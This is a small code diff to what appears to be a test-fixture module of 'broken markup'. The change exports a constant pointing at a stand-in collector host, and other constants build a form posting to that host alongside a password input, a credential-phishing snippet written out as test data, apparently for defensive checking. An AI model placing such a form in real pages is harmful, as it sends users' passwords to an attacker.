@@ -1,6 +1,6 @@
 /** What broken markup is made of, for pages that nobody wrote. */
 
-const EVIL = "https://collect.example/";
+export const EVIL = "https://collect.example/";
 export const BAD = `<form action=${EVIL}>`;
 export const FIELD = "<input type=password>";
 export const PIECES = [
